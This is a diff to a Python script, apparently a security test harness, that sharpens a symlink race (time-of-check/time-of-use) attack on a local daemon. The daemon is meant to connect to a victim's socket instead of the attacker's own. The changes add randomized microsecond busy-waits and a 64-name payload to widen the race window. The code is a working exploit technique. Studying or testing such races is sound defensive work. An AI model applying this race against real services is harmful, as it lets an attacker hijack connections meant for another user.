@@ -21,6 +21,7 @@ import hashlib
 import http.client
 import json
 import os
+import random
 import re
 import socket
 import ssl
@@ -295,26 +296,45 @@ def attack_slots(directory, count):
 	return socks
 
 
+def spin(seconds):
+	"""Busy-wait: sleep() cannot wait a few microseconds."""
+	end = time.perf_counter() + seconds
+	while time.perf_counter() < end:
+		pass
+
+
 def attack_symlink(directory, victim, attempts, flips):
 	"""For each attempt: write ID.names, then keep replacing ID.sock, in
 	turn, by the attacker's own bound socket (a hard link to it) and by a
 	symbolic link to the victim's socket, so that the daemon's checks and
-	its connect() may see different files. Ends with the real socket."""
+	its connect() may see different files; until the daemon has answered
+	in ID.status (or flips rounds passed). Ends with the real socket."""
 	socks = []
 	idents = []
+	rng = random.Random(attempts)
 	for i in range(attempts):
 		ident = f"{os.getpid()}-swap{i:04d}"
 		real = directory / f"{ident}.real"
 		socks.append(bind_dgram(real))
-		write_names(directory, ident, "n.example\n")
+		# 64 names: the most one upstream may claim, the most work for the
+		# daemon between its checks of ID.sock and its connect().
+		write_names(directory, ident, "n.example\n" + "".join(f"s{k}.n.example\n" for k in range(63)))
 		target = directory / f"{ident}.sock"
+		status = directory / f"{ident}.status"
 		tmp_link = directory / f"{ident}.tl"
 		tmp_real = directory / f"{ident}.tr"
-		for _ in range(flips):
+		# The daemon wakes up on the rename of the real socket into place;
+		# the symlink follows after a varying delay, so that over many
+		# attempts it lands anywhere in the daemon's work on that event.
+		for flip in range(flips):
+			os.symlink(victim, tmp_link)
 			os.link(real, tmp_real)
 			os.rename(tmp_real, target)
-			os.symlink(victim, tmp_link)
+			spin(rng.uniform(0, 80e-6))
 			os.rename(tmp_link, target)
+			spin(rng.uniform(0, 100e-6))
+			if status.exists():
+				break
 		os.link(real, tmp_real)
 		os.rename(tmp_real, target)
 		idents.append(ident)
